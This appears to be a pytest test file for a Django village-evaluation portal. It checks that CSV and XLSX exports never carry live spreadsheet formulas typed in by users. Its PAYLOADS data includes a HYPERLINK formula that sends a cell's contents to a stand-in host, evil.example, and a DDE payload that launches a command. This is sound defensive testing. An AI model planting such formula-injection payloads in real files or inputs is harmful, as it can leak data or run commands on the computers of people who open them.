"""Text typed into the portal never becomes a live formula in a file it writes.

The payloads start with each character a spreadsheet reads as a formula. Every export
URL of the portal is listed in ``EXPORTS``; a new export that is not listed fails
``test_every_export_url_is_checked_for_formulas``, so it cannot ship unprotected.
"""

import csv
import io

import pytest
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from openpyxl import load_workbook

from evaluations.models import Aspect, Criterion, Score, UnitReview
from portal.spreadsheets import FORMULA_STARTS, PLAIN_NUMBER
from tests.test_eval_results_pages import Example
from villages.models import Kecamatan, Kelurahan

PAYLOADS = {
    "unit": '=HYPERLINK("https://evil.example/?d="&B2,"Klik")',
    "kelurahan": "+1+1",
    "kecamatan": "-2+3",
    "note": "@SUM(A1:A9)",
    "judge": "=1+1",
    "aspect": "-Aspek",
    "criterion": "=Kriteria",
    "guidance": "@panduan",
    "recommendation": "=cmd|' /C calc'!A0",
    "username": "-juri",
}

# Every export: URL name -> (arguments, whether it carries text people typed).
EXPORTS = {
    "villages:kampung-csv": ((), True),
    "manage:data-template": (("anggrek",), False),
    "evaluations:results-csv": ((2025,), True),
    "evaluations-manage:results-xlsx": ((2025,), True),
    "evaluations-manage:score-template": ((2025,), True),
    "evaluations-manage:rubric-export": ((2025,), True),
}
EXPORT_MARKS = (".csv", ".xlsx", "csv", "xlsx", "ekspor", "export")


def _patterns(resolver, prefix="", namespace=""):
    for pattern in resolver.url_patterns:
        if isinstance(pattern, URLResolver):
            inner = f"{namespace}{pattern.namespace}:" if pattern.namespace else namespace
            yield from _patterns(pattern, prefix + str(pattern.pattern), inner)
        elif isinstance(pattern, URLPattern):
            yield prefix + str(pattern.pattern), f"{namespace}{pattern.name or ''}"


def export_url_names():
    """Every URL whose route or name says it writes a CSV or XLSX file."""
    return {
        name
        for route, name in _patterns(get_resolver())
        if any(mark in route.lower() or mark in name.lower() for mark in EXPORT_MARKS)
    }


def test_every_export_url_is_checked_for_formulas():
    assert export_url_names() == set(EXPORTS)


@pytest.fixture
def hostile(empty_db):
    """The published example period with a formula in every free-text field."""
    example = Example()
    unit = example.units["Anggrek"]
    unit.name = PAYLOADS["unit"]
    unit.save()
    Kelurahan.objects.filter(pk=unit.kelurahan_id).update(name=PAYLOADS["kelurahan"])
    Kecamatan.objects.filter(pk=unit.kelurahan.kecamatan_id).update(name=PAYLOADS["kecamatan"])
    Score.objects.filter(period=example.period).update(note=PAYLOADS["note"])
    UnitReview.objects.filter(period=example.period).update(
        recommendation=PAYLOADS["recommendation"]
    )
    judge = example.judges["ani"]
    judge.first_name, judge.last_name = PAYLOADS["judge"], ""
    judge.username = PAYLOADS["username"]
    judge.save()
    for number, aspect in enumerate(Aspect.objects.filter(period=example.period), start=1):
        aspect.name = f"{PAYLOADS['aspect']} {number}"
        aspect.save()
    Criterion.objects.filter(aspect__period=example.period).update(
        name=PAYLOADS["criterion"], guidance=PAYLOADS["guidance"]
    )
    example.publish()
    return example


def cells_of(response):
    """Every cell of a CSV or XLSX response, with whether openpyxl stored it as a formula."""
    if response["Content-Type"].startswith("text/csv"):
        text = response.getvalue().decode("utf-8-sig")
        return [(cell, False) for row in csv.reader(io.StringIO(text)) for cell in row]
    workbook = load_workbook(io.BytesIO(response.content))
    return [
        (cell.value, cell.data_type == "f")
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
    ]


def is_live(value):
    return (
        isinstance(value, str)
        and value.startswith(FORMULA_STARTS)
        and not PLAIN_NUMBER.fullmatch(value)
    )


@pytest.mark.parametrize("name", EXPORTS)
def test_no_export_carries_a_live_formula(client, hostile, name):
    args, carries_text = EXPORTS[name]
    client.force_login(hostile.staf)
    response = client.get(reverse(name, args=args))
    assert response.status_code == 200
    cells = cells_of(response)
    assert [value for value, formula in cells if formula or is_live(value)] == []
    if carries_text:
        quoted = [
            value for value, _formula in cells if isinstance(value, str) and value[:1] == "'"
        ]
        assert any(is_live(value[1:]) for value in quoted), "a payload is in the file, as text"


def test_numbers_stay_numbers_in_the_xlsx(client, hostile):
    client.force_login(hostile.staf)
    response = client.get(reverse("evaluations-manage:results-xlsx", args=[2025]))
    summary = load_workbook(io.BytesIO(response.content))["Rekap"]
    scores = [row[5].value for row in summary.iter_rows(min_row=2) if row[5].value is not None]
    assert scores and all(isinstance(score, float) for score in scores)
